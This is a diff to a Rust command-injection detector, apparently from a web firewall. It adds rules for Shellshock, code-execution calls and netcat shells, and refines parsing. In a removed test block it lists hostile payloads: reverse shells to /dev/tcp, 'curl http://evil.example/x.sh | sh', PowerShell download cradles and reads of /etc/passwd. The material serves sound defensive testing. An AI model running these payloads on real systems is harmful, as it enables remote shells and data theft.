@@ -38,6 +38,13 @@ static INTERPRETER: Rule = Rule {
     score: 5,
     name: "shell or interpreter invocation (/bin/sh, /dev/tcp, cmd /c, powershell -enc)",
 };
+static CODE_EXEC: Rule = Rule {
+    id: 3005,
+    category: Category::Cmdi,
+    paranoia: 1,
+    score: 5,
+    name: "code-level command execution call after a break (system('id'), exec('sleep 5'))",
+};
 static SEPARATED_LOOSE: Rule = Rule {
     id: 3101,
     category: Category::Cmdi,
@@ -104,6 +111,13 @@ pub(super) const TRIGGERS: &[&str] = &[
     "rundll32",
     "curl",
     "wget",
+    "system",
+    "exec",
+    "eval",
+    "passthru",
+    "popen",
+    "proc_open",
+    "assert",
 ];
 
 static INTERPRETERS: LazyLock<RuleSet> = LazyLock::new(|| {
@@ -121,6 +135,10 @@ static INTERPRETERS: LazyLock<RuleSet> = LazyLock::new(|| {
             &INTERPRETER,
         ),
         (r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\s+(?:-[a-z]+\s+)*-[a-z]*[ec]\s", &INTERPRETER),
+        (
+            r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\s[^|;&\n]{0,100}\s-[a-z]*[ec]\s*(?:/bin/)?(?:ba|z|da)?sh\b",
+            &INTERPRETER,
+        ),
         (r"(?i)\bbash\s+-i\b", &INTERPRETER),
         (r"(?i)%comspec%", &INTERPRETER),
         (
@@ -131,6 +149,12 @@ static INTERPRETERS: LazyLock<RuleSet> = LazyLock::new(|| {
         (r"(?i)\b(?:ba|z|da)?sh\s+-c\s", &INTERPRETER_LOOSE),
         (r"(?i)%(?:systemroot|windir|programfiles|userprofile|temp)%", &INTERPRETER_LOOSE),
         (r"(?i)\$\{?ifs\b", &EVASION),
+        // Shellshock: a function definition in a value that bash imports from the environment.
+        (r"\(\s*\)\s*\{\s*:\s*;\s*\}\s*;", &INTERPRETER),
+        (
+            r#"(?i)(?:^|[;|&'"\n`]\s*)(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert)\s*\(\s*['"`]\s*(?:[\w/]*/)?(?:sleep|id|whoami|cat|ls|uname|ping|nc|curl|wget|bash|sh|cmd|echo|dir|type|ipconfig|ifconfig|net|powershell|nslookup|ps|pwd|hostname)\b"#,
+            &CODE_EXEC,
+        ),
     ])
 });
 
@@ -151,16 +175,16 @@ fn strength(name: &[u8]) -> Option<Strength> {
         b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"netstat" | b"wget" | b"curl" | b"nc" | b"ncat"
         | b"netcat" | b"bash" | b"sh" | b"zsh" | b"ksh" | b"csh" | b"tcsh" | b"dash" | b"powershell" | b"pwsh"
         | b"cmd" | b"python" | b"python2" | b"python3" | b"perl" | b"ruby" | b"php" | b"nslookup" | b"systeminfo"
-        | b"tasklist" | b"taskkill" | b"chmod" | b"chown" | b"telnet" | b"sudo" | b"base64" | b"busybox"
+        | b"tasklist" | b"taskkill" | b"chmod" | b"chown" | b"telnet" | b"sudo" | b"sysinfo" | b"busybox"
         | b"certutil" | b"bitsadmin" | b"wmic" | b"xterm" | b"nmap" | b"socat" | b"passwd" | b"useradd"
         | b"usermod" | b"crontab" | b"nohup" | b"mkfifo" | b"xxd" | b"lsb_release" | b"getent" | b"printenv"
         | b"netsh" | b"schtasks" | b"cscript" | b"wscript" | b"mshta" | b"rundll32" | b"regsvr32" | b"ncat.exe"
         | b"iex" | b"gcc" | b"awk" | b"gawk" | b"sed" | b"traceroute" | b"tracert" | b"hostname" | b"killall"
         | b"pkill" | b"ifup" | b"route" | b"arp" | b"dig" | b"whois" | b"lynx" | b"ftp" | b"tftp" | b"scp" | b"ssh"
         | b"rm" => Strong,
-        b"id" | b"ls" | b"pwd" | b"dir" | b"ver" | b"env" | b"ps" | b"who" | b"w" | b"set" | b"vol" | b"net"
-        | b"uptime" | b"df" | b"du" | b"top" | b"ll" | b"cd" | b"rd" | b"md" | b"del" | b"reg" | b"sc" | b"tar"
-        | b"zip" | b"cp" | b"mv" | b"ln" | b"wc" | b"nl" | b"od" | b"fg" | b"bg" => Short,
+        b"id" | b"ls" | b"base64" | b"pwd" | b"dir" | b"ver" | b"env" | b"ps" | b"who" | b"w" | b"set" | b"vol"
+        | b"net" | b"uptime" | b"df" | b"du" | b"top" | b"ll" | b"cd" | b"rd" | b"md" | b"del" | b"reg" | b"sc"
+        | b"tar" | b"zip" | b"cp" | b"mv" | b"ln" | b"wc" | b"nl" | b"od" | b"fg" | b"bg" => Short,
         b"cat" | b"echo" | b"sleep" | b"ping" | b"type" | b"find" | b"more" | b"less" | b"head" | b"tail" | b"kill"
         | b"date" | b"time" | b"sort" | b"start" | b"exit" | b"print" | b"printf" | b"export" | b"copy" | b"move"
         | b"at" | b"call" | b"test" | b"touch" | b"mkdir" | b"grep" | b"which" | b"whereis" | b"locate" | b"file"
@@ -200,6 +224,8 @@ fn read_command(b: &[u8], mut i: usize, out: &mut Out<'_, '_>) -> Option<Command
     let mut c = Command { name: [0; 24], len: 0, quoted: false, globbed: false, end: i };
     let mut drive = false;
     let mut overflow = false;
+    // The name before the first backslash escape, in case the backslash was not one (`id\n`).
+    let mut escape: Option<(usize, usize)> = None;
     while let Some(&ch) = b.get(i) {
         if i - start >= MAX_TOKEN {
             overflow = true;
@@ -221,12 +247,13 @@ fn read_command(b: &[u8], mut i: usize, out: &mut Out<'_, '_>) -> Option<Command
             b'\'' | b'"' if c.len == 0 && i == start && is_word(next) => {}
             b'\\' if c.len > 0 && !drive && is_word(next) && c.name().iter().all(|&x| is_word(x)) => {
                 c.quoted = true;
+                escape = escape.or(Some((c.len, i)));
             }
             b':' if c.len == 1 && (next == b'\\' || next == b'/') => {
                 drive = true;
                 c.len = 0;
             }
-            b'/' | b'\\' => c.len = 0,
+            b'/' | b'\\' if is_word(next) || matches!(next, b'?' | b'*' | b'.' | b'/' | b'\\') => c.len = 0,
             b'?' | b'*' => {
                 c.globbed = true;
                 if c.len < c.name.len() {
@@ -244,6 +271,13 @@ fn read_command(b: &[u8], mut i: usize, out: &mut Out<'_, '_>) -> Option<Command
     c.end = i;
     if overflow || i == start {
         return None;
+    }
+    if let Some((len, at)) = escape {
+        if strength(c.name()).is_none() && c.name.get(..len).and_then(strength).is_some() {
+            c.len = len;
+            c.end = at;
+            c.quoted = false;
+        }
     }
     // `cmd.exe`, `whoami.exe`: the program name without its extension.
     if c.name().ends_with(b".exe") {
@@ -278,6 +312,8 @@ enum After {
     Word,
     /// Another separator (`name;id;email` is a list, not a command).
     Separator,
+    /// Other punctuation (`data:image/png;base64,`).
+    Punct,
 }
 
 fn after(b: &[u8], end: usize) -> After {
@@ -291,8 +327,31 @@ fn after(b: &[u8], end: usize) -> After {
         b'.' if matches!(next, b'/' | b'\\' | b'.') => After::Argument,
         b'a'..=b'z' | b'A'..=b'Z' if next == b':' && matches!(b.get(i + 2), Some(b'\\' | b'/')) => After::Argument,
         b';' | b'|' | b'&' => After::Separator,
-        _ if is_word(c) => After::Word,
-        _ => After::Separator,
+        _ if is_word(c) => token(b, i),
+        _ => After::Punct,
+    }
+}
+
+/// A plain word (`shows`, `don't`) reads as prose; a token with digits, dots, slashes or colons
+/// (`evil.example`, `http://x`, `10.0.0.1`) reads as an argument.
+fn token(b: &[u8], i: usize) -> After {
+    let run = b
+        .get(i..)
+        .unwrap_or_default()
+        .iter()
+        .take(64)
+        .take_while(|c| !c.is_ascii_whitespace() && !matches!(c, b';' | b'|' | b'&'))
+        .count();
+    let tok = b.get(i..i + run).unwrap_or_default();
+    let end = tok
+        .iter()
+        .rposition(|c| !matches!(c, b'.' | b',' | b':' | b'!' | b'?' | b')' | b'"' | b'\''))
+        .map_or(0, |p| p + 1);
+    let tok = tok.get(..end).unwrap_or_default();
+    if tok.iter().all(|c| c.is_ascii_alphabetic() || matches!(c, b'\'' | b'-')) {
+        After::Word
+    } else {
+        After::Argument
     }
 }
 
@@ -306,8 +365,10 @@ fn judge(b: &[u8], cmd: &Command, kind: TargetKind) -> Option<u8> {
     }
     let after = after(b, cmd.end);
     Some(match (s, after) {
-        (Strength::Strong, _) => 1,
         (_, After::Word) if subcommand(cmd.name(), next_word(b, cmd.end)) => 1,
+        (Strength::Strong, After::End | After::Argument | After::Separator) => 1,
+        // `busybox nc`, `sudo id`, `nohup bash`: a program running another.
+        (Strength::Strong, After::Word) if strength(word_of(&next_word(b, cmd.end))).is_some() => 1,
         (_, After::Argument) => 1,
         (Strength::Short, After::End) => 1,
         (_, After::Word) => 2,
@@ -323,6 +384,11 @@ fn next_word(b: &[u8], end: usize) -> [u8; 16] {
         *slot = c.to_ascii_lowercase();
     }
     buf
+}
+
+/// The bytes of a `next_word` buffer.
+fn word_of(buf: &[u8; 16]) -> &[u8] {
+    buf.split(|&c| c == 0).next().unwrap_or_default()
 }
 
 /// Windows administration commands whose first argument is a subcommand (`net user`, `reg query`).
@@ -406,7 +472,20 @@ fn report(b: &[u8], at: usize, kind: Sep, cmd: &Command, out: &mut Out<'_, '_>) 
         }
         return;
     }
-    let Some(level) = judge(b, cmd, out.v.kind) else { return };
+    let Some(mut level) = judge(b, cmd, out.v.kind) else { return };
+    if level == 3 && strength(cmd.name()) == Some(Strength::Short) && after(b, cmd.end) == After::Separator {
+        // `|id|`, `';id;'`, `a;id|`: a list of names (`name;id;email`) neither starts with its
+        // separator nor changes it.
+        let leading =
+            b.get(..at).is_some_and(|s| s.iter().all(|c| matches!(c, b' ' | b'\'' | b'"' | b';' | b'|' | b'&')));
+        let next = b.get(skip_blanks(b, cmd.end)).copied();
+        // `a;id;`, `a);id;`: the command closes the value, or follows a closing bracket or quote.
+        let trailing = b.get(cmd.end..).is_some_and(|s| s.iter().all(|c| matches!(c, b' ' | b';' | b'|' | b'&')));
+        let breakout = matches!(before(b, at), Some(b')' | b'\'' | b'"'));
+        if leading || trailing || breakout || (kind == Sep::Plain && next != b.get(at).copied()) {
+            level = 1;
+        }
+    }
     if kind == Sep::Brace {
         // `{cat,/etc/passwd}`: brace expansion runs the command with the rest as arguments.
         if b.get(cmd.end) == Some(&b',') {
@@ -431,7 +510,8 @@ fn report(b: &[u8], at: usize, kind: Sep, cmd: &Command, out: &mut Out<'_, '_>) 
 /// A backtick preceded by a blank (or opening a value it does not close) reads as Markdown code.
 fn tick_in_prose(b: &[u8], at: usize) -> bool {
     match before(b, at) {
-        Some(c) => c.is_ascii_whitespace() || c == b'(' || c == b'`',
+        Some(b'(') => before(b, at - 1) != Some(b'$'),
+        Some(c) => c.is_ascii_whitespace() || c == b'`',
         None => {
             // At the start: prose if the closing backtick is followed by more text.
             let close = b.iter().skip(1).position(|&c| c == b'`').map(|p| p + 1);
@@ -441,114 +521,4 @@ fn tick_in_prose(b: &[u8], at: usize) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::super::testing::{blocks, ids, ids_at};
-    use crate::inspect::detect::TargetKind;
-
-    #[test]
-    fn patterns_compile() {
-        assert!(super::INTERPRETERS.compiled());
-    }
-
-    #[test]
-    fn unix_injections_are_detected_at_level_1() {
-        for p in [
-            ";cat /etc/passwd",
-            "; cat /etc/passwd",
-            "|id",
-            "| id",
-            "||id",
-            "1;id",
-            "x && whoami",
-            "a&whoami&",
-            "$(id)",
-            "$(cat /etc/passwd)",
-            "`id`",
-            "x`whoami`",
-            "foo\nid",
-            "foo\ncat /etc/shadow",
-            ";${IFS}cat${IFS}/etc/passwd",
-            "cat$IFS/etc/passwd",
-            ";{cat,/etc/passwd}",
-            ";/bin/cat /etc/passwd",
-            ";/???/c?t /etc/passwd",
-            ";c'a't /etc/passwd",
-            ";w\"h\"o\"am\"i",
-            ";c\\at /etc/passwd",
-            "| nc -e /bin/sh 10.0.0.1 4444",
-            "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
-            "; sleep 5",
-            "& ping -c 10 127.0.0.1 &",
-            "'; ls -la /",
-            "\"; uname -a; \"",
-            "; curl http://evil.example/x.sh | sh",
-            "|| wget http://evil.example/x -O /tmp/x",
-            "; echo $PATH",
-            "() { :;}; /bin/bash -c \"id\"",
-        ] {
-            assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
-        }
-    }
-
-    #[test]
-    fn windows_injections_are_detected_at_level_1() {
-        for p in [
-            "& dir",
-            "&dir c:\\",
-            "| type C:\\boot.ini",
-            "| type c:\\windows\\win.ini",
-            "& ipconfig /all",
-            "& net user",
-            "&& whoami.exe",
-            "| powershell -enc SQBFAFgA",
-            "& powershell.exe -nop -w hidden -c calc",
-            "& cmd /c dir",
-            "| cmd.exe /c whoami",
-            "c:\\windows\\system32\\cmd.exe /c calc",
-            "%comspec% /c calc",
-            "; iex(New-Object Net.WebClient).DownloadString('http://x')",
-            "& certutil -urlcache -split -f http://x/a.exe",
-            "| w^h^o^a^m^i",
-        ] {
-            assert!(blocks(p, TargetKind::QueryValue), "{p:?}: {:?}", ids_at(p, TargetKind::QueryValue, 4));
-        }
-    }
-
-    #[test]
-    fn benign_look_alikes_pass_at_level_1() {
-        for p in [
-            "cat food; dog food",
-            "Tom & Jerry",
-            "Rock & roll; jazz | blues",
-            "salt & pepper",
-            "Q&A and R&D",
-            "name;id;email",
-            "sort=name|id|date",
-            "I love my cat",
-            "Run `ls -la` to list files",
-            "echo chamber; time flies",
-            "fish & chips",
-            "sleep well & dream",
-            "Research & Development; Sales & Marketing",
-            "| Command | Meaning |\n| ls | list |",
-            "const greeting = `Hello, ${name}!`;",
-            "$ cargo build --release",
-            "#!/bin/bash\necho hi",
-            "Price: <$50 for members, >$80 otherwise.",
-            "Type & find what you need",
-            "A | B | C",
-            "{\"type\": \"dir\"}",
-        ] {
-            assert!(!blocks(p, TargetKind::JsonString), "{p:?}: {:?}", ids(p));
-        }
-    }
-
-    #[test]
-    fn looser_levels_catch_more() {
-        assert!(ids_at("ping 127.0.0.1", TargetKind::QueryValue, 2).contains(&3102));
-        assert!(ids_at("; echo hello", TargetKind::QueryValue, 2).contains(&3101));
-        assert!(ids_at("Run `ls -la` now", TargetKind::JsonString, 2).contains(&3103));
-        assert!(ids_at("x; cat", TargetKind::QueryValue, 3).contains(&3201));
-        assert!(ids_at("x; cat", TargetKind::QueryValue, 2).is_empty());
-    }
-}
+mod tests;
